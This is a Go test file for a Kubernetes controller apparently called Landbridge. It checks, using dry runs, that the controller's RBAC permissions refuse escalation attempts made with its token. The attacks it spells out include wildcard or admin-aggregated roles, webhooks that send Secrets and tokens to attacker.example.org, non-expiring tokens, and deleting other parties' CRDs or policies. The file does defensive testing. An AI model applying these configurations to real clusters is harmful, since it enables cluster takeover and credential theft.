package tenancy_test

import (
	"context"
	"encoding/json"
	"testing"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apiextensionsv1 "k8s.io/apiextensions-apiserver/pkg/apis/apiextensions/v1"
	kerrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/util/retry"
	"sigs.k8s.io/controller-runtime/pkg/client"
)

// request is what a program with the controller's token asks of the API server. It changes nothing
// if it is permitted.
type request func(ctx context.Context, x *world, c client.Client) error

// withToken is an attack of a program that has the controller's token, as that of a provider
// without a sandbox would. As the control, the controller's own work is requested, which is of the
// same kind.
func withToken(means string, harmful, own request) attack {
	succeeds := func(t *testing.T, x *world, r request) bool {
		t.Helper()
		err := r(t.Context(), x, x.controllersClient(t))
		if err != nil && !kerrors.IsForbidden(err) && !kerrors.IsInvalid(err) {
			t.Fatal(err)
		}
		if err != nil {
			t.Log(err)
		}
		return err == nil
	}
	return attack{
		attacker: "a program with the controller's token", means: means, refusal: "forbidden by the permissions in deploy/rbac",
		try:     func(t *testing.T, x *world) bool { return succeeds(t, x, harmful) },
		control: func(t *testing.T, x *world) bool { return succeeds(t, x, own) },
	}
}

// controllersClient returns a client with a token of the controller's ServiceAccount.
func (x *world) controllersClient(t *testing.T) client.Client {
	t.Helper()
	kube, err := kubernetes.NewForConfig(x.Config)
	if err != nil {
		t.Fatal(err)
	}
	issued, err := kube.CoreV1().ServiceAccounts(system).
		CreateToken(t.Context(), "landbridge", &authenticationv1.TokenRequest{}, metav1.CreateOptions{})
	if err != nil {
		t.Fatal(err)
	}
	config := rest.AnonymousClientConfig(x.Config)
	config.BearerToken = issued.Status.Token
	c, err := client.New(config, client.Options{Scheme: x.Scheme(), Mapper: x.RESTMapper()})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// creates requests an object that a function changes.
func creates[T client.Object](object func(x *world) T, change ...func(T)) request {
	return func(ctx context.Context, x *world, c client.Client) error {
		o := object(x)
		for _, f := range change {
			f(o)
		}
		return c.Create(ctx, o, client.DryRunAll)
	}
}

// ownRole is a role as the controller makes it.
func ownRole(x *world) *rbacv1.ClusterRole {
	return &rbacv1.ClusterRole{
		ObjectMeta: metav1.ObjectMeta{
			Name: "landbridge:" + x.name + ":controller", Labels: map[string]string{"landbridge.io/aggregate-to-controller": "true"},
		},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{"new.landbridge.io"}, Resources: []string{"things"}, Verbs: []string{"get"}}},
	}
}

func escalation(means string, change func(*rbacv1.ClusterRole)) attack {
	return withToken(means, creates(ownRole, change), creates(ownRole))
}

// mutating is a policy that adds the controller to the subjects of each binding that others write.
func mutating(*world) *admissionregistrationv1.MutatingAdmissionPolicy {
	const add = `[JSONPatch{op: "add", path: "/subjects/-", value: ` +
		`Object.subjects{kind: "ServiceAccount", name: "landbridge", namespace: "landbridge-system"}}]`
	return &admissionregistrationv1.MutatingAdmissionPolicy{
		ObjectMeta: metav1.ObjectMeta{Name: "finalizer.open.landbridge.io-escalation"},
		Spec: admissionregistrationv1.MutatingAdmissionPolicySpec{
			MatchConstraints: &admissionregistrationv1.MatchResources{
				ResourceRules: []admissionregistrationv1.NamedRuleWithOperations{{RuleWithOperations: admissionregistrationv1.RuleWithOperations{
					Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create, admissionregistrationv1.Update},
					Rule: admissionregistrationv1.Rule{
						APIGroups: []string{rbacv1.GroupName}, APIVersions: []string{"*"}, Resources: []string{"clusterrolebindings"},
					},
				}}},
			},
			Mutations: []admissionregistrationv1.Mutation{{
				PatchType: admissionregistrationv1.PatchTypeJSONPatch, JSONPatch: &admissionregistrationv1.JSONPatch{Expression: add},
			}},
			FailurePolicy:      new(admissionregistrationv1.Ignore),
			ReinvocationPolicy: admissionregistrationv1.NeverReinvocationPolicy,
		},
	}
}

func mutatingBinding(*world) *admissionregistrationv1.MutatingAdmissionPolicyBinding {
	return &admissionregistrationv1.MutatingAdmissionPolicyBinding{
		ObjectMeta: metav1.ObjectMeta{Name: "escalation"},
		Spec:       admissionregistrationv1.MutatingAdmissionPolicyBindingSpec{PolicyName: "of-others"},
	}
}

// ownWebhook is a webhook as the controller configures it for a Service.
func ownWebhook(x *world) *admissionregistrationv1.ValidatingWebhookConfiguration {
	name := "plan." + objectName(x.name) + ".landbridge.io"
	return &admissionregistrationv1.ValidatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: name},
		Webhooks: []admissionregistrationv1.ValidatingWebhook{{
			Name: name,
			ClientConfig: admissionregistrationv1.WebhookClientConfig{
				Service: &admissionregistrationv1.ServiceReference{Namespace: system, Name: "landbridge-plans"},
			},
			Rules: []admissionregistrationv1.RuleWithOperations{{
				Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.OperationAll},
				Rule: admissionregistrationv1.Rule{
					APIGroups: []string{"new.landbridge.io"}, APIVersions: []string{"*"}, Resources: []string{"*"},
				},
			}},
			FailurePolicy: new(admissionregistrationv1.Ignore), SideEffects: new(admissionregistrationv1.SideEffectClassNone),
			AdmissionReviewVersions: []string{"v1"},
		}},
	}
}

func webhook(means string, change func(*admissionregistrationv1.ValidatingWebhook)) attack {
	return withToken(means,
		creates(ownWebhook, func(w *admissionregistrationv1.ValidatingWebhookConfiguration) {
			change(&w.Webhooks[0])
		}), creates(ownWebhook))
}

// definition is a CRD as the controller creates it.
func definition(x *world) *apiextensionsv1.CustomResourceDefinition {
	plural := objectName(x.name) + "s"
	return &apiextensionsv1.CustomResourceDefinition{
		ObjectMeta: metav1.ObjectMeta{Name: plural + ".new.landbridge.io", Labels: map[string]string{"landbridge.io/provider": "new"}},
		Spec: apiextensionsv1.CustomResourceDefinitionSpec{
			Group: "new.landbridge.io", Scope: apiextensionsv1.NamespaceScoped,
			Names: apiextensionsv1.CustomResourceDefinitionNames{Kind: "Kind" + plural, Plural: plural},
			Versions: []apiextensionsv1.CustomResourceDefinitionVersion{{
				Name: "v1alpha1", Served: true, Storage: true,
				Schema: &apiextensionsv1.CustomResourceValidation{OpenAPIV3Schema: &apiextensionsv1.JSONSchemaProps{Type: "object"}},
			}},
		},
	}
}

// foreign is a CRD that others have installed.
func foreign(x *world) *apiextensionsv1.CustomResourceDefinition {
	d := definition(x)
	d.Name, d.Spec.Group, d.Labels = d.Spec.Names.Plural+".applications.example.com", "applications.example.com", nil
	return d
}

func inGroup(group string) func(*apiextensionsv1.CustomResourceDefinition) {
	return func(d *apiextensionsv1.CustomResourceDefinition) {
		d.Name, d.Spec.Group = d.Spec.Names.Plural+"."+group, group
	}
}

// installed has an administrator create a CRD, and then makes a request about it.
func installed(
	object func(*world) *apiextensionsv1.CustomResourceDefinition,
	then func(context.Context, client.Client, client.Object) error,
) request {
	return func(ctx context.Context, x *world, c client.Client) error {
		d := object(x)
		if err := x.Create(ctx, d); err != nil {
			return errorOfAnother{err}
		}
		for {
			if err := x.Get(ctx, client.ObjectKeyFromObject(d), d); err != nil {
				return errorOfAnother{err}
			}
			if len(d.Status.Conditions) > 0 {
				return then(ctx, c, d)
			}
		}
	}
}

// errorOfAnother hides the kind of an error, so that it is not taken for a refusal.
type errorOfAnother struct{ error }

func deletes(ctx context.Context, c client.Client, o client.Object) error {
	return c.Delete(ctx, o, client.DryRunAll)
}

func updates(change func(client.Object)) func(context.Context, client.Client, client.Object) error {
	return func(ctx context.Context, c client.Client, o client.Object) error {
		// The API server writes the status of a new CRD several times.
		return retry.RetryOnConflict(retry.DefaultBackoff, func() error {
			if err := c.Get(ctx, client.ObjectKeyFromObject(o), o); err != nil {
				return errorOfAnother{err}
			}
			change(o)
			return c.Update(ctx, o, client.DryRunAll)
		})
	}
}

func ownSecret(x *world) *corev1.Secret {
	return &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Namespace: x.victim.namespace, Name: objectName(x.name)}, Type: "connection.crossplane.io/v1alpha1",
	}
}

// changesSecret has a tenant create a Secret of a type, which the controller then changes.
func changesSecret(kind corev1.SecretType) request {
	return func(ctx context.Context, x *world, c client.Client) error {
		s := ownSecret(x)
		s.Type = kind
		if err := x.victim.Create(ctx, s); err != nil {
			return errorOfAnother{err}
		}
		s.StringData = map[string]string{"password": "another"}
		return c.Update(ctx, s, client.DryRunAll)
	}
}

// token are attacks of a program that has the controller's token. They fail if the permissions in
// deploy/rbac permit more than the controller does.
var token = map[string]attack{
	"the API server, by a role": escalation("permits itself everything", func(r *rbacv1.ClusterRole) {
		r.Rules = []rbacv1.PolicyRule{{APIGroups: []string{"*"}, Resources: []string{"*"}, Verbs: []string{"*"}}}
	}),
	"tokens, by a role": escalation("permits itself to request tokens", func(r *rbacv1.ClusterRole) {
		r.Rules = append(r.Rules, rbacv1.PolicyRule{
			APIGroups: []string{""}, Resources: []string{"serviceaccounts/token"}, Verbs: []string{"create"},
		})
	}),
	"kinds of others, by a role": escalation("permits itself to write custom resources of others, which "+
		"deploy anything", func(r *rbacv1.ClusterRole) {
		r.Rules[0].APIGroups = []string{"argoproj.io"}
	}),
	"a role of others": escalation("writes a role that others have", func(r *rbacv1.ClusterRole) { r.Name = "evil" }),
	"a role for all users": escalation("adds permissions to the role admin", func(r *rbacv1.ClusterRole) {
		r.Labels = map[string]string{"rbac.authorization.k8s.io/aggregate-to-admin": "true"}
	}),
	"all roles, by labels": escalation("collects the permissions of others", func(r *rbacv1.ClusterRole) {
		r.Rules, r.AggregationRule = nil, &rbacv1.AggregationRule{ClusterRoleSelectors: []metav1.LabelSelector{{}}}
	}),

	// No policy applies to these, so the role does not permit them at all.
	"the API server, by a mutating policy": withToken("adds itself to the subjects of bindings that others write",
		creates(mutating), creates(ownRole)),
	"a policy's binding": withToken("binds a mutating policy of others", creates(mutatingBinding), creates(ownRole)),

	"all Secrets, by a webhook": webhook("has all Secrets sent to an address of its own", func(w *admissionregistrationv1.ValidatingWebhook) {
		w.ClientConfig = admissionregistrationv1.WebhookClientConfig{URL: new("https://attacker.example.org/")}
		w.Rules[0].Rule = admissionregistrationv1.Rule{
			APIGroups: []string{""}, APIVersions: []string{"*"}, Resources: []string{
				"secrets", "pods", "serviceaccounts/token",
			},
		}
	}),
	"all Secrets, by the own Service": webhook("has all Secrets sent to the controller", func(w *admissionregistrationv1.ValidatingWebhook) {
		w.Rules[0].APIGroups, w.Rules[0].Resources = []string{""}, []string{"secrets"}
	}),
	"another address": webhook("has the API server send requests to an address of its own",
		func(w *admissionregistrationv1.ValidatingWebhook) {
			w.ClientConfig = admissionregistrationv1.WebhookClientConfig{URL: new("https://attacker.example.org/")}
		}),
	"another Service": webhook("has the API server send requests to a Service of others", func(w *admissionregistrationv1.ValidatingWebhook) {
		w.ClientConfig.Service.Namespace = "kube-system"
	}),
	"writes of all": webhook("has all changes of resources refused", func(w *admissionregistrationv1.ValidatingWebhook) {
		w.FailurePolicy = new(admissionregistrationv1.Fail)
	}),
	"a webhook of others": withToken("overwrites the webhooks of others",
		creates(ownWebhook, func(w *admissionregistrationv1.ValidatingWebhookConfiguration) {
			w.Name = "cert-manager-webhook"
		}), creates(ownWebhook)),

	"kinds of others": withToken("deletes a CRD of others, with all objects", installed(foreign, deletes), installed(definition, deletes)),
	"kinds of others, by a label": withToken("labels a CRD of others as its own", installed(foreign, updates(func(o client.Object) {
		o.SetLabels(map[string]string{"landbridge.io/provider": "new"})
	})), installed(definition, updates(func(o client.Object) { o.SetAnnotations(map[string]string{"a": "b"}) }))),
	"kinds of a group of others": withToken("defines a kind in a group of others",
		creates(definition, inGroup("argoproj.io")), creates(definition)),
	"kinds of Kubernetes": withToken("defines a kind in a group of Kubernetes",
		creates(definition, inGroup("gateway.networking.k8s.io")), creates(definition)),
	"the kinds of Landbridge": withToken("deletes the CRD of TerraformProviders", func(ctx context.Context, _ *world, c client.Client) error {
		return deletes(ctx, c, &apiextensionsv1.CustomResourceDefinition{ObjectMeta: metav1.ObjectMeta{Name: "terraformproviders.landbridge.io"}})
	}, installed(definition, deletes)),
	"objects, by a conversion": withToken("has the API server send objects to an address of its own",
		creates(definition, func(d *apiextensionsv1.CustomResourceDefinition) {
			d.Spec.Conversion = &apiextensionsv1.CustomResourceConversion{
				Strategy: apiextensionsv1.WebhookConverter,
				Webhook: &apiextensionsv1.WebhookConversion{
					ClientConfig:             &apiextensionsv1.WebhookClientConfig{URL: new("https://attacker.example.org/")},
					ConversionReviewVersions: []string{"v1"},
				},
			}
		}), creates(definition)),

	"a ServiceAccount, by a Secret": withToken("creates a Secret with a token of another ServiceAccount",
		creates(ownSecret, func(s *corev1.Secret) {
			s.Type, s.Annotations = corev1.SecretTypeServiceAccountToken, map[string]string{corev1.ServiceAccountNameKey: "default"}
		}), creates(ownSecret)),
	"a lasting token": withToken("creates a Secret with a token of its own that does not expire", creates(ownSecret, func(s *corev1.Secret) {
		s.Namespace, s.Type, s.Annotations = system, corev1.SecretTypeServiceAccountToken, map[string]string{
			corev1.ServiceAccountNameKey: "landbridge",
		}
	}), creates(ownSecret)),
	"a Secret of others": withToken("changes a Secret that it has not made", changesSecret(corev1.SecretTypeOpaque),
		changesSecret("connection.crossplane.io/v1alpha1")),

	"the policy for the token": withToken("deletes the policy that limits it", func(ctx context.Context, _ *world, c client.Client) error {
		return c.Delete(ctx, &admissionregistrationv1.ValidatingAdmissionPolicy{
			ObjectMeta: metav1.ObjectMeta{Name: "landbridge-controller"},
		}, client.DryRunAll)
	}, creates(ownRole)),
	"a policy for plans": withToken("loosens a policy for plans", policyPatch(""), policyPatch("status")),
}

// policyPatch has an administrator create a PlanPolicy, whose spec or status the controller then
// changes.
func policyPatch(subresource string) request {
	return func(ctx context.Context, x *world, c client.Client) error {
		u := resource("landbridge.io/v1alpha1", "PlanPolicy", "", objectName(x.name), m{
			"match": m{"namespaces": []any{"none"}}, "condition": "false", "action": "Deny", "message": "No.",
		})
		if err := x.Create(ctx, u); err != nil {
			return errorOfAnother{err}
		}
		change := m{"spec": m{"action": "Warn"}}
		if subresource != "" {
			change = m{"status": m{}}
		}
		patch, err := json.Marshal(change)
		if err != nil {
			return errorOfAnother{err}
		}
		o := &unstructured.Unstructured{}
		o.SetGroupVersionKind(u.GroupVersionKind())
		o.SetName(u.GetName())
		if subresource != "" {
			return c.Status().Patch(ctx, o, client.RawPatch(types.MergePatchType, patch))
		}
		return c.Patch(ctx, o, client.RawPatch(types.MergePatchType, patch), client.DryRunAll)
	}
}
